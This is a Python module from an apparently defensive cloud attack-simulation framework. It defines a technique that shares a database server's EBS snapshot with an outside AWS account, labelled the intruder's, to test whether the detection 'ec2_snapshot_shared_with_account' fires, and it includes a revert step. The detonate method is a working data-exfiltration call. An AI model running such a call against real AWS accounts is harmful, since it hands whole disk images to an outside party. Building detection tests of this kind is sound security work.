"""Share an EBS snapshot with an AWS account outside the organization."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

OUTSIDE_ACCOUNT = "012345678912"  # the intruder's own account
PERMISSION = "createVolumePermission"


@technique
class Ec2ShareEbsSnapshot(Technique):
    title = "Exfiltrate an EBS snapshot by sharing it"
    attack = ("T1537",)
    expects = ("ec2_snapshot_shared_with_account",)
    description = (
        "Gives an outside account create-volume permission on the database server's nightly snapshot, "
        "so the intruder can restore the disk in their own account."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("ec2", session=ctx.attacker()).modify_snapshot_attribute(
            SnapshotId=ctx.res["snapshot"], Attribute=PERMISSION,
            CreateVolumePermission={"Add": [{"UserId": OUTSIDE_ACCOUNT}]},
        )  # fmt: skip

    def revert(self, ctx: Ctx, state: Json) -> None:
        client("ec2", session=ctx.admin()).modify_snapshot_attribute(
            SnapshotId=ctx.res["snapshot"], Attribute=PERMISSION,
            CreateVolumePermission={"Remove": [{"UserId": OUTSIDE_ACCOUNT}]},
        )  # fmt: skip
